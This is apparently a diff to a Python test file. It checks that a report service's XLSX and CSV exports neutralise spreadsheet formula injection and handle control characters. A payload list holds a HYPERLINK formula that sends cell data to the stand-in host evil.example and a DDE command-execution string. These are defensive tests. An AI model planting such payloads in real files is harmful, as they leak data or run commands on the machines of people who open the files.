@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+import zipfile
 from pathlib import Path
 from typing import Any
 
@@ -129,3 +130,53 @@ async def test_what_pdf_refuses_csv_accepts(api: httpx.AsyncClient) -> None:
     r = await api.post("/jobs", json={"jobType": "generateReport",
                                       "payload": report("csv", 5_001, 1)})
     assert r.status_code == 202, r.text[:300]
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&B1,"click")', "=cmd|' /C calc'!A0",
+            "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
+
+
+async def test_xlsx_strings_are_never_formulas(api: httpx.AsyncClient, run_job: Any) -> None:
+    doc = await run_job("generateReport", {"format": "xlsx", "title": "t",
+                                           "columns": ["=A1", "n"],
+                                           "rows": [[f, -5] for f in FORMULAS if "\r" not in f]})
+    content = (await download(api, doc)).content
+    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")
+    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
+    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
+    cells = [c for row in sheet.iter_rows() for c in row]
+    assert [c.value for c in cells[::2]] == ["=A1", *(f for f in FORMULAS if "\r" not in f)]
+    assert {c.data_type for c in cells[::2]} == {"s"}
+    assert [c.value for c in cells[3::2]] == [-5] * (len(FORMULAS) - 1)  # numbers stay numbers
+
+
+async def test_csv_cells_a_spreadsheet_would_run_are_quoted(api: httpx.AsyncClient,
+                                                            run_job: Any) -> None:
+    doc = await run_job("generateReport", {"format": "csv", "title": "t",
+                                           "columns": ["@col", "n"],
+                                           "rows": [[f, -5] for f in FORMULAS] + [["ok", 1.5]]})
+    rows = list(csv.reader(io.StringIO((await download(api, doc)).text, newline="")))
+    assert rows == [["'@col", "n"], *[["'" + f, "-5"] for f in FORMULAS], ["ok", "1.5"]]
+
+
+@pytest.mark.parametrize(("where", "field"), [
+    ({"title": "a\x01b"}, "title"),
+    ({"columns": ["ok", "a\x0bb"]}, "columns[1]"),
+    ({"rows": [["x", "y"], ["z", "a\x00b"]]}, "rows[1][1]"),
+])
+async def test_xlsx_refuses_control_characters_at_submit(api: httpx.AsyncClient, stores: Stores,
+                                                         where: dict[str, Any],
+                                                         field: str) -> None:
+    payload = {"format": "xlsx", "title": "t", "columns": ["a", "b"], "rows": [], **where}
+    r = await api.post("/jobs", json={"jobType": "generateReport", "payload": payload})
+    assert r.status_code == 422, r.text[:300]
+    assert field in r.json()["error"]["details"][0]["message"]
+    assert await stores.jobs.count_documents({}) == 0
+
+
+@pytest.mark.parametrize("fmt", ["pdf", "csv"])
+async def test_other_formats_write_control_characters(api: httpx.AsyncClient, run_job: Any,
+                                                      fmt: str) -> None:
+    doc = await run_job("generateReport", {"format": fmt, "title": "a\x01b",
+                                           "columns": ["a\x0bb"], "rows": [["a\x00b"]]})
+    assert doc["status"] == "COMPLETED", doc.get("error")
